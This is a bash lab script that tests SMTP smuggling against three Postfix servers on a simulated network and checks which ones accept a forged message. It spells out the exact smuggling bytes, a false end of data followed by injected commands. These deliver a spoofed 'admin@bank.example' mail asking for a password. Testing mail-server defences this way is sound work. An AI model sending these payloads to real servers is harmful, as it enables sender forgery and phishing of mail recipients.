#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
#
# 13-smtp-smuggling: one mail with something in it that looks like its end, and
# commands behind that.  The same octets for three servers: a Postfix that takes a
# line end for any of LF and CR LF, as it did for 25 years, one that goes by the book,
# and one that refuses bare LF.  Then two letters to the first: one with another false
# end that it does not take, and an honest one with a line that only looks like that.

. "$(dirname "$0")/lab.sh"
. "$(dirname "$0")/servers.sh"
lab_begin postfix

lab_host out out.sender.example 192.0.2.50/24
lab_host old mx1.hogehoge.or.jp 192.0.2.25/24 postfix
lab_host book mx2.hogehoge.or.jp 192.0.2.26/24 postfix
lab_host strict mx3.hogehoge.or.jp 192.0.2.27/24 postfix

# server HOST NAME SETTING: what smtpd_forbid_bare_newline shall be.
server ()
{
  postfix_start "$1" "$2" <<END
virtual_mailbox_domains = hogehoge.or.jp
virtual_mailbox_maps = inline:{ taro@hogehoge.or.jp=taro/, jiro@hogehoge.or.jp=jiro/ }
smtpd_forbid_bare_newline = $3
smtpd_discard_ehlo_keywords = chunking, dsn, etrn, smtputf8, vrfy
END
}
server old mx1.hogehoge.or.jp no
server book mx2.hogehoge.or.jp normalize
server strict mx3.hogehoge.or.jp reject

# letter ADDRESS END CODE...: a mail that holds END; each CODE is an answer to it.
letter ()
{
  local code
  dial on out nc -N "$1" 25
  hear 220
  for line in 'EHLO out.sender.example' 'MAIL FROM:<mallory@sender.example>' 'RCPT TO:<taro@hogehoge.or.jp>'
  do
    say 0 "$line"
    hear 250
  done
  say 0 DATA
  hear 354
  # One packet: printf alone would send it in lines.
  printf '%b' 'From: mallory@sender.example\r\nTo: taro@hogehoge.or.jp\r\nSubject: Hello\r\n\r\nNothing to see here.' \
    "$2" 'MAIL FROM:<admin@bank.example>\r\nRCPT TO:<jiro@hogehoge.or.jp>\r\nDATA\r\n' \
    'From: admin@bank.example\r\nTo: jiro@hogehoge.or.jp\r\nSubject: Your account\r\n\r\nPlease send me your password.\r\n.\r\n' |
    cat >&"${LAB_LINE[1]}"
  for code in "${@:3}"
  do
    hear "$code"
  done
  say 0 QUIT
  hear 221
  hang_up
}

capture_start 13-smtp-smuggling
letter 192.0.2.25 '\n.\r\n' 250 250 250 354 250
letter 192.0.2.26 '\n.\r\n' 250
letter 192.0.2.27 '\n.\r\n' 550
letter 192.0.2.25 '\r\n.\r' 250
letter 192.0.2.25 '\r\n..\r\n' 250
capture_stop

# The first server has a mail that nobody at bank.example wrote; the others have none.
wait_mail old /var/mail/lab/jiro 1
wait_mail old /var/mail/lab/taro 3
wait_mail book /var/mail/lab/taro 1
on book test ! -e /var/mail/lab/jiro || die "mx2 was deceived"
on strict test ! -e /var/mail/lab/taro || die "mx3 took the mail"
